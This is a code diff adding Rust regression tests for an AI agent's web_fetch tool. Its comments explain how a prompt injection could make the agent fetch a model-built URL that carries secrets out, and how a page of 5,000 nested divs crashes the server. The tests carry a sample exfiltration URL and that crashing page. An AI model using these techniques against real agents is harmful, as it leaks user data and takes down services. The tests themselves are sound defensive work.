@@ -405,3 +405,53 @@ async fn limited_networking_bounds_fetches_and_their_redirects() {
     assert!(fx.err("web_fetch", json!({"url": "http://public.test/text"})).await.contains("url_not_allowed"));
     assert_eq!(net.trapped(), 0);
 }
+
+/// Defect (review): web_fetch's `url_sources` (managed-agents-api.md, the
+/// web_fetch extras: which parts of the context a fetched URL may come from)
+/// is validated when the agent is saved and then ignored: the web_fetch
+/// Logbook runs fetches any URL the model writes (no `url_not_in_prior_context`,
+/// §8.3), and the request builder does not pass `url_sources` to the
+/// provider's server tool either. A URL built by the model (a prompt
+/// injection's exfiltration URL) is fetched though the agent allows URLs
+/// only from web_search results. Method: a web_fetch config whose only
+/// source is web_search's results; with no search result in the session at
+/// all, any URL must be refused.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn url_sources_bound_what_web_fetch_fetches() {
+    let net = Net::start().await;
+    let fx = net.fixture(json!([{
+        "type": "agent_toolset_20260401",
+        "configs": [{"name": "web_fetch", "url_sources": {
+            "user_input": "none",
+            "client_tool_results": "none",
+            "server_tool_results": {"type": "only", "tools": [{"type": "tool_reference", "name": "web_search"}]}
+        }}]
+    }]));
+    let outcome = fx.call("web_fetch", json!({"url": "http://public.test/text?secret=from-the-model"})).await;
+    assert!(
+        outcome.is_error && text_of(&outcome).contains("url_not_in_prior_context"),
+        "a URL from no allowed source was fetched: {}",
+        text_of(&outcome)
+    );
+}
+
+/// Defect (review): the HTML of a fetched page is turned into text by
+/// recursive walks (htmd's `walk_node`, dom_smoothie), and `MAX_HTML_BYTES`
+/// bounds the bytes, not the nesting. A 25 KB page of 5,000 nested `<div>`s
+/// overflows the 2 MiB stack of the blocking-pool thread (debug build; a
+/// release build needs a deeper page, well within the 5 MiB cap). A stack
+/// overflow is not a panic `spawn_blocking` could catch: it aborts the
+/// process, so one page the model fetches (a prompt injection's link) kills
+/// the whole server and every session in it. Method: the "public" site
+/// serves such a page; web_fetch must answer (an error result is fine).
+/// Run it with nextest (one process per test): the defect aborts the
+/// process running it (SIGABRT, "stack overflow").
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_deeply_nested_page_does_not_bring_the_server_down() {
+    let deep = Arc::new(|_: &str| Reply::new(200, "text/html", "<div>".repeat(5_000).into_bytes()));
+    let site = TestServer::start("127.0.0.1:0", deep).await;
+    let services = services_with(Arc::new(FakeDns::default()), vec![(PUBLIC_IP, site.addr)], None);
+    let fx = Fixture::with_services(json!([{"type": "agent_toolset_20260401"}]), services);
+    let outcome = fx.call("web_fetch", json!({"url": "http://public.test/deep"})).await;
+    assert!(!text_of(&outcome).is_empty(), "{outcome:?}");
+}
